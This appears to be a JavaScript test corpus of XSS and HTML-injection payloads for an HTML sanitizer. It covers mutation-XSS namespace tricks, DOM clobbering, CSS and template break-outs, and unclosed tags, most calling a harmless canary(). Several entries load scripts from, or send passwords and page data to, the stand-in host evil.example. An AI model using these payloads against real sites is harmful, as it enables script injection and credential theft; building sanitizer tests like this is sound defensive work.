const SCRIPTS = [
  '<script>canary()</script>',
  '<script\u0000>canary()</script>',
  '<script src=\\\\evil.example\\x.js></script>',
  '<script>/*</script><script>*/canary()</script>',
  '</textarea><script>canary()</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  '<script>import("https://evil.example/x.js")</script>',
  '<svg:script>canary()</svg:script>',
]

/** What a cleaner reads in one namespace or mode, and a browser in another. */
const CONFUSIONS = [
  '<svg><style><img src=x onerror=canary()></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>canary()</script>"></iframe></foreignObject></svg>',
  '<svg><script xlink:href=data:,canary()></script></svg>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=canary()>"></style></h1></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()></style></form>',
  '<table><svg><style><p title="</style><img src=x onerror=canary()>">x</p></style></svg></table>',
  '<select><style></select><img src=x onerror=canary()></style></select>',
  '<noscript><style><p title="</style></noscript><img src=x onerror=canary()>">x</p></style></noscript>',
  '<script><!--<script></script><img title="</script><img src=x onerror=canary()>"></script>',
  '<template shadowrootmode=open><img src=x onerror=canary()></template>',
  '<!-- --!><img src=x onerror=canary()>-->',
  '<!DOCTYPE html [<!ENTITY x "<script>canary()</script>">]>&x;',
  '<p<script>canary()</script>>x</p>',
  '<img src="a\u0000b"><img src=x onerror=canary()>',
  `${'<b>'.repeat(520)}<svg><style><img src=x onerror=canary()></style></svg>${'</b>'.repeat(520)}`,
]

const FRAMES_AND_FORMS = [
  '<iframe srcdoc="<script>canary()</script>"></iframe>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
  '<form action=https://evil.example><input name=password type=password autofocus><button>Log in</button></form>',
  '<button type=submit form=app formaction=https://evil.example>x</button>',
]

const STYLES = [
  '<p style="width:expression(canary())">x</p>',
  '<p style="background:url(javascript:canary())">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Log in at evil.example</p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<style>@namespace url(https://evil.example/); a[href^="/"]{background:url(https://evil.example/a)}</style>',
  '<link rel=icon href=https://evil.example/favicon.ico>',
  '<base target=_self href=//evil.example/>',
]

/** Names that stand in the way of those that scripts use. */
const CLOBBERS = [
  '<p id=app>x</p>',
  '<form id=document name=cookie><input name=cookie></form>',
  '<object id=trustedTypes name=createPolicy></object>',
  '<p itemscope itemtype=https://evil.example itemprop=url>x</p>',
  '<p role=alert aria-live=assertive aria-label="Log in at evil.example">x</p>',
]

/** What breaks out of JSON in a page, of a string in a script, of a template. */
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: what templates of others would read
const BREAK_OUTS = [
  '</script><script>canary()</script>',
  '<!--<script>canary()',
  '\u2029canary()//',
  "';canary();//",
  '${canary()}',
  '{{$on.constructor("canary()")()}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=canary()>"}}',
  '"/><meta http-equiv="refresh" content="0;url=https://evil.example/',
  '\r\n\r\n<script>canary()</script>',
  '&#60;script&#62;canary()&#60;/script&#62;',
  '\uff1cscript\uff1ecanary()\uff1c/script\uff1e',
  '\ud800<script>canary()</script>\udfff',
  '"\'--><svg onload=canary()></svg>',
]

// biome-ignore-end lint/suspicious/noTemplateCurlyInString: as above
/** Those that swallow all that comes after them. */
const UNCLOSED = [
  ...['script', 'style', 'textarea', 'title', 'xmp', 'plaintext', 'noscript', 'template', 'noembed'].map(
    (name) => `<${name}><img src=x onerror=canary()>`,
  ),
  ...['noframes', 'iframe', 'select', 'option', 'svg', 'math', 'object', 'button', 'listing'].map(
    (name) => `<${name}><img src=x onerror=canary()>`,
  ),
  '<img src=x onerror=canary()',
  "<img src='https://evil.example/?",
  '<script src=//evil.example/x.js',
  '<svg/onload=canary()<',
  '<?<img src=x onerror=canary()>',
  '<style>@import "https://evil.example/?',
  '<table><tr><td><svg><style><img src=x onerror=canary()>',
]

export const MARKUP: readonly string[] = [
  ...SCRIPTS,
  ...CONFUSIONS,
  ...FRAMES_AND_FORMS,
  ...STYLES,
  ...CLOBBERS,
  ...BREAK_OUTS,
  ...UNCLOSED,
]
